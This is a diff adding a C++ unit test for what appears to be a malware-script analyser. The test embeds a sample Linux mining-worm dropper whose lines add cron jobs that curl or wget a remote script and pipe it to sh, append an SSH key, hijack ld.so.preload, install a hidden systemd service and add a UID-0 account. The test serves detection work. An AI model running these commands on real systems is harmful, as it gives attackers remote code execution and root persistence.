@@ -101,6 +101,48 @@ TEST(Script, MyKingsBatchYieldsEveryCommand) {
     EXPECT_NE(std::find(a.urls.begin(), a.urls.end(), u), a.urls.end()) << u;
 }
 
+// A shell dropper installs itself the ways Linux mining worms do; each write is a record with the file and the text.
+TEST(Script, ShellDropperWritesAreRecords) {
+  const std::string sh =
+      "#!/bin/bash\n"
+      "echo '*/5 * * * * curl -fsSL http://203.0.113.9/pm.sh|sh' >> /etc/crontab  # the system crontab\n"
+      "(crontab -l 2>/dev/null; echo \"*/10 * * * * wget -q -O- http://203.0.113.9/a|sh\") | crontab -\n"
+      "echo 'ssh-rsa AAAAB3NzaC1yc2E worm@x' >>~/.ssh/authorized_keys; chmod 600 ~/.ssh/authorized_keys\n"
+      "printf '%s\\n' /usr/local/lib/libhide.so > /etc/ld.so.preload\n"
+      "echo \"127.0.0.1 minexmr.com\" | tee -a /etc/hosts >/dev/null\n"
+      "cat > /etc/cron.d/0systemd <<'EOF'\n"
+      "# hourly\n"
+      "0 * * * * root /tmp/.x/kworker\n"
+      "EOF\n"
+      "cat >/etc/systemd/system/kworker.service <<EOF\n"
+      "[Service]\n"
+      "ExecStart=/tmp/.x/kworker\n"
+      "EOF\n"
+      "systemctl daemon-reload && systemctl enable --now kworker.service\n"
+      "useradd -o -u 0 -g 0 -M -s /bin/bash hilde\n"
+      "echo 'not a command: >> /etc/crontab'\n";
+  const Analysis a = analyse(sh);
+  EXPECT_EQ(a.language, "shell");
+  std::set<std::string> got;
+  for (const auto& c : a.commands) {
+    std::string r = c.kind + " L" + std::to_string(c.line);
+    for (const char* k : {"file", "entry", "path", "unit", "name"})
+      if (auto it = c.fields.find(k); it != c.fields.end()) r += std::string(" ") + k + "=" + it->second;
+    if (c.kind != "download") got.insert(r);
+  }
+  EXPECT_EQ(got, (std::set<std::string>{
+                     "cron_write L2 file=/etc/crontab entry=*/5 * * * * curl -fsSL http://203.0.113.9/pm.sh|sh",
+                     "cron_write L3 file= entry=*/10 * * * * wget -q -O- http://203.0.113.9/a|sh",
+                     "ssh_key_write L4 file=/root/.ssh/authorized_keys entry=ssh-rsa AAAAB3NzaC1yc2E worm@x",
+                     "preload_write L5 file=/etc/ld.so.preload entry=/usr/local/lib/libhide.so",
+                     "hosts_write L6 file=/etc/hosts entry=127.0.0.1 minexmr.com",
+                     "file_write L7 path=/etc/cron.d/0systemd",
+                     "file_write L11 path=/etc/systemd/system/kworker.service",
+                     "systemd_enable L15 unit=kworker.service",
+                     "account_add L16 name=hilde",
+                 }));
+}
+
 TEST(Script, PowerShellAndVbscriptLayers) {
   // [char] codes joined with +, and a FromBase64String payload (UTF-8 here).
   const Analysis ps = analyse(
